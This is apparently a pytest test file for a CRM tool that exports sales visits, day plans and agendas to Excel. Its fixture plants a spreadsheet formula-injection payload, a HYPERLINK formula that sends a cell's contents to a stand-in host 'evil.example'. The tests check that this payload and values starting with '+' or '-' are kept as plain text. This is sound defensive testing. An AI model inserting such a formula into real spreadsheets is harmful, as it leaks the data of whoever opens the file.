"""Visits out to Excel: the visits sheet (headers, types, labels, objections, no formulas,
atomic), the day plan for the road (grouped by city and district, an empty day says so),
and the agenda (planned, missed, due) with its workbook."""
from __future__ import annotations

import datetime as dt
import zipfile

import pytest
from openpyxl import load_workbook

from crmdesk.core.visits import fields as V
from crmdesk.core.errors import CrmError
from crmdesk.core.models import database
from crmdesk.core.progress import Cancelled
from crmdesk.core.customers import archive as customers
from crmdesk.core import agenda as day_agenda
from crmdesk.core.visits import export as E, planning as P, visits

DAY = dt.date(2026, 11, 24)
AT = dt.datetime(2026, 11, 24, 8, 0)  # "now" for the tests: before the day's first visit
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def at(hour, minute=0, day=DAY) -> dt.datetime:
    return dt.datetime.combine(day, dt.time(hour, minute))


def make(name, **values) -> int:
    return customers.create({"name": name, "owner": "张伟", **values})[0]


def plan(cid, start, minutes=60, **extra) -> int:
    return visits.create({"customer_id": cid, "starts_at": start,
                          "ends_at": start + dt.timedelta(minutes=minutes), **extra}).visit_id


def read(path, index=0):
    wb = load_workbook(path)
    return wb, wb.worksheets[index]


def values(ws) -> list[list]:
    return [[c.value for c in row] for row in ws.iter_rows()]


def leftovers(folder, keep=()):
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


@pytest.fixture
def world(db):
    """Two customers in Hangzhou, one in Ningbo; a done visit, two planned ones on DAY, a
    cancelled one, one that passed unrecorded, and one of a deleted customer."""
    minghua = make("上海明华贸易有限公司", code="001", city="杭州市", district="西湖区", province="浙江省",
                   address="文三路 90 号", mobile="13812345678", phone="057188886666", tier="key",
                   contact_person="王芳")
    hengtong = make("恒通机械有限公司", city="杭州市", district="滨江区", mobile="13900001111", tier="relationship")
    ningbo = make("宁波瑞丰", city="宁波市", district="鄞州区", tier="transactional")
    gone = make("已删除客户", city="杭州市", district="西湖区")
    done = visits.log_visit(
        {"customer_id": minghua, "starts_at": at(14, 0, dt.date(2026, 11, 2)),
         "ends_at": at(15, 30, dt.date(2026, 11, 2)), "kind": "needs_analysis", "contacts": "王芳、李强",
         "objective": HOSTILE, "talking_points": "年度框架协议\n阶梯价格"},
        {"outcome": "客户认可方案，要求月底前报价。", "rating": 4, "follow_up": "-3 天内发报价",
         "objections": [("价格偏高", "提供阶梯报价"), ("交期太长", "")]}).visit_id
    v1 = plan(minghua, at(9), kind="presentation", objective="产品演示", materials="样册、报价单",
              contacts="王芳", talking_points="新品参数")
    v2 = plan(hengtong, at(9, 30), 90, kind="negotiation", objective="+商务谈判")
    v3 = plan(ningbo, at(14), kind="care")
    cancelled = plan(ningbo, at(16))
    visits.cancel(cancelled, "客户出差")
    passed = plan(hengtong, at(10, 0, dt.date(2026, 11, 20)), kind="after_sales")
    deleted = plan(gone, at(11))
    customers.delete([gone])
    return dict(minghua=minghua, hengtong=hengtong, ningbo=ningbo, done=done, v1=v1, v2=v2, v3=v3,
                cancelled=cancelled, passed=passed, deleted=deleted)


# ---------------------------------------------------------------- every visit

@pytest.mark.parametrize("lang", ["zh", "en"])
def test_visits_sheet_headers_in_the_language(world, tmp_path, lang):
    out = tmp_path / "visits.xlsx"
    assert E.export_visits(out, lang, at=AT) == 6  # not the deleted customer's visit
    wb, ws = read(out)
    assert ws.title == ("拜访记录" if lang == "zh" else "Visits")
    assert [c.value for c in ws[1]] == [c.zh if lang == "zh" else c.en for c in V.VISIT_COLUMNS]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:S7"
    assert ws.column_dimensions["B"].width >= 30


def test_visits_by_start_with_real_datetimes_labels_and_text(world, tmp_path):
    out = tmp_path / "visits.xlsx"
    E.export_visits(out, "zh", at=AT)
    _wb, ws = read(out)
    col = {c.key: i for i, c in enumerate(V.VISIT_COLUMNS)}
    rows = values(ws)[1:]
    starts = [r[col["starts_at"]] for r in rows]
    assert starts == sorted(starts) and all(isinstance(s, dt.datetime) for s in starts)
    first = rows[0]  # the done visit of 11-02
    assert first[col["customer_code"]] == "001"
    assert ws.cell(row=2, column=col["customer_code"] + 1).data_type == "s"
    assert first[col["starts_at"]] == dt.datetime(2026, 11, 2, 14, 0)
    assert first[col["ends_at"]] == dt.datetime(2026, 11, 2, 15, 30)
    assert ws.cell(row=2, column=col["starts_at"] + 1).number_format == "yyyy-mm-dd hh:mm"
    assert isinstance(first[col["recorded_at"]], dt.datetime)
    assert first[col["kind"]] == "需求分析" and first[col["state"]] == "已完成"
    assert first[col["contacts"]] == "王芳、李强"
    assert first[col["place"]] == "浙江省杭州市西湖区文三路 90 号"
    assert first[col["rating"]] == 4 and isinstance(first[col["rating"]], int)
    assert first[col["outcome"]] == "客户认可方案，要求月底前报价。"
    assert first[col["objections"]] == "价格偏高 → 提供阶梯报价\n交期太长"
    assert ws.cell(row=2, column=col["objections"] + 1).alignment.wrap_text
    assert first[col["talking_points"]] == "年度框架协议\n阶梯价格"
    by_state = {r[col["starts_at"]]: r[col["state"]] for r in rows}
    assert by_state[dt.datetime(2026, 11, 20, 10)] == "未拜访"  # passed, never recorded
    assert by_state[at(16)] == "已取消" and by_state[at(9)] == "计划中"
    cancelled = next(r for r in rows if r[col["state"]] == "已取消")
    assert cancelled[col["reason"]] == "客户出差"
    # The phone-like and code-like columns stay text for what is typed below
    assert ws.column_dimensions["A"].number_format == "@"


def test_english_labels(world, tmp_path):
    out = tmp_path / "visits.xlsx"
    E.export_visits(out, "en", at=AT)
    _wb, ws = read(out)
    rows = values(ws)[1:]
    assert {r[4] for r in rows} >= {"Needs analysis", "Presentation", "Negotiation", "Care"}
    assert {r[5] for r in rows} >= {"Done", "Planned", "Cancelled", "Missed"}


def test_hostile_text_never_becomes_a_formula(world, tmp_path):
    out = tmp_path / "visits.xlsx"
    E.export_visits(out, "zh", at=AT)
    _wb, ws = read(out)
    col = [c.key for c in V.VISIT_COLUMNS]
    objective = ws.cell(row=2, column=col.index("objective") + 1)
    assert objective.value == HOSTILE and objective.data_type == "s" and objective.quotePrefix
    follow_up = ws.cell(row=2, column=col.index("follow_up") + 1)
    assert follow_up.value == "-3 天内发报价" and follow_up.data_type == "s" and follow_up.quotePrefix
    plus = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == "+商务谈判"]
    assert plus and plus[0].data_type == "s" and plus[0].quotePrefix
    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_objection_lines():
    assert E.objection_lines('[["价格高", "给折扣"], ["", "只有答复"], ["只有异议", ""]]') == \
        "价格高 → 给折扣\n→ 只有答复\n只有异议"
    assert E.objection_lines("") == ""
    assert E.objection_lines("不是 JSON 的旧记录") == "不是 JSON 的旧记录"
    assert E.objection_lines('{"a": 1}') == '{"a": 1}'


def test_round_trip_of_many_visits_in_chunks(db, tmp_path, monkeypatch):
    monkeypatch.setattr(E, "CHUNK", 7)
    cid = make("华润", code="C1")
    starts = [dt.datetime(2026, 1, 1, 9) + dt.timedelta(days=n, minutes=15 * (n % 4)) for n in range(30)]
    for n, start in enumerate(starts):
        plan(cid, start, 45, objective=f"第{n}次")
    calls = []
    out = tmp_path / "v.xlsx"
    assert E.export_visits(out, progress=lambda done, total, _m: calls.append((done, total))) == 30
    assert calls == [(0, 30), (7, 30), (14, 30), (21, 30), (28, 30), (30, 30)]
    _wb, ws = read(out)
    rows = values(ws)[1:]
    assert [r[2] for r in rows] == starts
    assert [r[3] for r in rows] == [s + dt.timedelta(minutes=45) for s in starts]
    assert [r[9] for r in rows] == [f"第{n}次" for n in range(30)]


def test_more_visits_than_a_sheet_holds_go_on_to_the_next(world, tmp_path, monkeypatch):
    monkeypatch.setattr(E, "SHEET_ROWS", 4)
    out = tmp_path / "visits.xlsx"
    assert E.export_visits(out, "en", at=AT) == 6
    wb = load_workbook(out)
    assert wb.sheetnames == ["Visits", "Visits (2)"]
    first, second = wb.worksheets
    assert [first.max_row, second.max_row] == [5, 3]
    assert [c.value for c in second[1]] == [c.en for c in V.VISIT_COLUMNS]
    assert second.freeze_panes == "A2" and second.auto_filter.ref == "A1:S3"
    assert first.auto_filter.ref == "A1:S5"
    starts = [r[2] for ws in wb.worksheets for r in values(ws)[1:]]
    assert starts == sorted(starts) and len(starts) == 6


def test_cancel_leaves_no_file(world, tmp_path, monkeypatch):
    monkeypatch.setattr(E, "CHUNK", 2)
    folder = tmp_path / "out"
    folder.mkdir()

    def progress(done, total, _message):
        if done >= 2:
            raise Cancelled()

    with pytest.raises(Cancelled):
        E.export_visits(folder / "v.xlsx", progress=progress)
    assert leftovers(folder) == []


def test_unwritable_target_and_unknown_language(world, tmp_path):
    with pytest.raises(CrmError) as caught:
        E.export_visits(tmp_path / "nowhere" / "v.xlsx")
    assert caught.value.code == "file_unwritable"
    with pytest.raises(ValueError):
        E.export_visits(tmp_path / "v.xlsx", "fr")


def test_no_visits_is_a_header_only_sheet(db, tmp_path):
    out = tmp_path / "v.xlsx"
    assert E.export_visits(out) == 0
    _wb, ws = read(out)
    assert ws.max_row == 1 and ws.auto_filter.ref == "A1:S1"


# ---------------------------------------------------------------- the day plan

def test_day_plan_grouped_by_city_and_district(world, tmp_path):
    out = tmp_path / "day.xlsx"
    assert E.export_day_plan(out, DAY, "zh", at=AT) == 3
    _wb, ws = read(out)
    assert ws.title == "2026-11-24 拜访路线"
    assert [c.value for c in ws[1]] == ["时间", "客户名称", "拜访类型", "拜访对象", "地点", "电话",
                                         "拜访目的", "携带资料", "洽谈要点"]
    assert ws.freeze_panes == "A2"
    rows = values(ws)[1:]
    assert [r[0] for r in rows] == ["杭州市 西湖区", "09:00–10:00", "杭州市 滨江区", "09:30–11:00",
                                    "宁波市 鄞州区", "14:00–15:00"]  # the cancelled 16:00 is left out
    assert ws.cell(row=2, column=1).font.b and not ws.cell(row=3, column=1).font.b
    assert all(v is None for v in rows[0][1:])
    stop = rows[1]
    assert stop[1:] == ["上海明华贸易有限公司", "产品介绍/演示", "王芳", "浙江省杭州市西湖区文三路 90 号",
                        "13812345678 / 057188886666", "产品演示", "样册、报价单", "新品参数"]
    assert ws.cell(row=3, column=6).data_type == "s"
    negotiation = ws.cell(row=5, column=7)
    assert negotiation.value == "+商务谈判" and negotiation.data_type == "s" and negotiation.quotePrefix


def test_day_plan_for_one_rep_in_english(world, tmp_path):
    out = tmp_path / "day.xlsx"
    assert E.export_day_plan(out, DAY, "en", rep="李娜", at=AT) == 0
    _wb, ws = read(out)
    assert ws.title == "Day plan 2026-11-24"
    assert values(ws)[1] == ["Nothing is planned for 2026-11-24."] + [None] * 8


def test_an_empty_day_says_so(db, tmp_path):
    out = tmp_path / "day.xlsx"
    assert E.export_day_plan(out, dt.date(2026, 12, 25)) == 0
    _wb, ws = read(out)
    rows = values(ws)
    assert rows[0][0] == "时间" and rows[1][0] == "2026-12-25 没有安排拜访。" and len(rows) == 2


def test_time_span_across_midnight():
    item = E.CalendarItem(1, 1, "x", dt.datetime(2026, 11, 24, 22), dt.datetime(2026, 11, 25, 1, 30),
                          "planned", "care", "", "", 1)
    assert E.time_span(item) == "22:00–11-25 01:30"


# ---------------------------------------------------------------- the agenda

def test_agenda_planned_missed_and_due(world):
    agenda = day_agenda.agenda(DAY, 1, at=AT)
    assert [i.id for i in agenda.visits] == [world["v1"], world["v2"], world["v3"]]
    assert [d for d, _items in agenda.by_day()] == [DAY]
    assert [i.id for i in agenda.missed] == [world["passed"]]
    assert agenda.missed[0].state == V.MISSED
    # due on DAY with no visit planned: nobody (all three have a visit today)...
    assert agenda.due_count == 0 and agenda.due == []
    # ...but a week later the key account (visited 11-02, every 14 days) is overdue
    later = day_agenda.agenda(DAY + dt.timedelta(days=7), 3, at=AT)
    assert later.visits == [] and [d for d, _ in later.by_day()] == [
        dt.date(2026, 12, 1), dt.date(2026, 12, 2), dt.date(2026, 12, 3)]
    # the three visits of DAY passed unrecorded by then: missed, with the one of 11-20
    assert [i.id for i in later.missed] == [world["passed"], world["v1"], world["v2"], world["v3"]]
    assert world["minghua"] in [r.id for r in later.due]
    row = next(r for r in later.due if r.id == world["minghua"])
    assert row.last_visit == dt.date(2026, 11, 2) and row.overdue_days == 15
    assert later.due_count == len(later.due)


def test_agenda_over_several_days_and_for_one_rep(world):
    tomorrow = at(10, 0, DAY + dt.timedelta(days=1))
    other = make("李娜的客户", owner="李娜", city="杭州市")
    mine = plan(other, tomorrow)
    agenda = day_agenda.agenda(DAY, 2, at=AT)
    days = agenda.by_day()
    assert [len(items) for _d, items in days] == [3, 1] and days[1][1][0].id == mine
    assert [i.id for i in day_agenda.agenda(DAY, 2, rep="李娜", at=AT).visits] == [mine]
    assert day_agenda.agenda(DAY, 2, rep="李娜", at=AT).missed == []


def test_missed_looks_back_thirty_days_only(db):
    cid = make("久远")
    plan(cid, dt.datetime(2026, 10, 20, 9))  # 35 days before DAY
    recent = plan(cid, dt.datetime(2026, 11, 10, 9))
    recorded = plan(cid, dt.datetime(2026, 11, 12, 9))
    visits.record(recorded, {"outcome": "ok"})
    assert [i.id for i in day_agenda.missed_visits(DAY)] == [recent]


def test_due_list_is_the_top_twenty(db):
    for n in range(25):
        cid = make(f"客户{n:02d}", tier="key")
        visits.log_visit({"customer_id": cid, "starts_at": dt.datetime(2026, 9, 1 + n, 10),
                          "ends_at": dt.datetime(2026, 9, 1 + n, 11)}, {"outcome": "ok"})
    agenda = day_agenda.agenda(DAY, 1, at=AT)
    assert agenda.due_count == 25 and len(agenda.due) == day_agenda.DUE_TOP
    overdue = [r.overdue_days for r in agenda.due]
    assert overdue == sorted(overdue, reverse=True) and overdue[0] == (DAY - dt.date(2026, 9, 15)).days


def test_agenda_workbook(world, tmp_path):
    for n in range(22):
        cid = make(f"待访{n:02d}", tier="key", code=f"D{n:03d}", mobile="13700000000")
        visits.log_visit({"customer_id": cid, "starts_at": dt.datetime(2026, 10, 1 + n, 10),
                          "ends_at": dt.datetime(2026, 10, 1 + n, 11)}, {"outcome": "ok"})
    agenda = day_agenda.agenda(DAY, 1, at=AT)
    out = tmp_path / "agenda.xlsx"
    day_agenda.export_agenda(out, agenda, "zh")
    wb = load_workbook(out)
    assert wb.sheetnames == ["拜访", "逾期未访", "待拜访客户", "投诉期限", "客户关怀", "应收款到期", "待跟进商机"]
    visits_ws, missed_ws, due_ws, _complaints_ws, _care_ws, _payments_ws, _deals_ws = wb.worksheets
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2" and all(c.font.b for c in ws[1])
    rows = values(visits_ws)
    assert rows[0][:5] == ["开始时间", "结束时间", "客户名称", "拜访类型", "状态"]
    assert [r[2] for r in rows[1:]] == ["上海明华贸易有限公司", "恒通机械有限公司", "宁波瑞丰"]
    assert rows[1][0] == at(9) and rows[1][3] == "产品介绍/演示" and rows[1][4] == "计划中"
    assert rows[1][7] == "杭州市 西湖区"
    assert visits_ws.cell(row=3, column=11).quotePrefix  # "+商务谈判"
    missed = values(missed_ws)
    assert len(missed) == 2 and missed[1][2] == "恒通机械有限公司" and missed[1][4] == "未拜访"
    due = values(due_ws)
    assert due[0] == ["客户编号", "客户名称", "客户等级", "城市", "区县", "负责人", "手机", "上次拜访",
                      "拜访周期（天）", "应拜访日期", "逾期天数"]
    assert len(due) == 1 + 20 + 2  # the top twenty, a blank row, the note
    assert due_ws.auto_filter.ref == "A1:K21"
    first = due[1]
    assert first[0] == "D000" and first[2] == "重点客户" and first[6] == "13700000000"
    assert due_ws.cell(row=2, column=7).data_type == "s"
    assert first[7] == dt.datetime(2026, 10, 1) and first[8] == 14 and first[9] == dt.datetime(2026, 10, 15)
    assert first[10] == (DAY - dt.date(2026, 10, 15)).days
    assert due[-1][0] == "共 22 位客户待拜访，这里列出逾期最久的 20 位。"


def test_agenda_workbook_in_english_when_empty(db, tmp_path):
    out = tmp_path / "agenda.xlsx"
    day_agenda.export_agenda(out, day_agenda.agenda(DAY, 1), "en")
    wb = load_workbook(out)
    assert wb.sheetnames == ["Visits", "Missed", "Due", "Complaint deadlines", "Customer care", "Payments due", "Deals due"]
    assert [ws.max_row for ws in wb.worksheets] == [1, 1, 1, 1, 1, 1, 1]
    assert wb.worksheets[2]["A1"].value == "Customer No."


# ---------------------------------------------------------------- what the agenda and calendar rely on

def test_calendar_items_carry_the_road_details_only_when_asked(world):
    light = {i.id: i for i in P.in_range(DAY, DAY + dt.timedelta(days=1), at=AT)}
    full = {i.id: i for i in P.in_range(DAY, DAY + dt.timedelta(days=1), at=AT, details=True)}
    assert light.keys() == full.keys()
    v1 = world["v1"]
    assert (light[v1].customer_name, light[v1].place, light[v1].kind, light[v1].state) == \
        (full[v1].customer_name, full[v1].place, full[v1].kind, full[v1].state)
    assert (light[v1].objective, light[v1].phones, light[v1].city) == ("", "", "")
    assert (full[v1].objective, full[v1].phones, full[v1].city, full[v1].contacts) == \
        ("产品演示", "13812345678 / 057188886666", "杭州市", "王芳")


def _plan(sql: str, params) -> str:
    return " | ".join(row[-1] for row in database.execute_sql(f"EXPLAIN QUERY PLAN {sql}", params))


def test_due_list_and_calendar_read_covering_indexes(world):
    sql, params = P._due_sql(P.DueQuery(DAY, owner="张伟", tier="key"), "id")
    assert "COVERING INDEX customer_live_due" in _plan(sql, params)
    sql, params = P._due_sql(P.DueQuery(DAY), "count(*)", order=False)
    assert "COVERING INDEX customer_live_due" in _plan(sql, params)
    # What in_range really runs, as SQLite saw it (values expanded)
    seen = []
    connection = database.connection()
    connection.set_trace_callback(seen.append)
    try:
        P.in_range(dt.date(2026, 11, 1), dt.date(2026, 12, 1), at=AT)
    finally:
        connection.set_trace_callback(None)
    [month] = [q for q in seen if "FROM visit" in q]
    plan = _plan(month, [])
    assert "COVERING INDEX visit_live_calendar" in plan and "COVERING INDEX customer_live_calendar" in plan
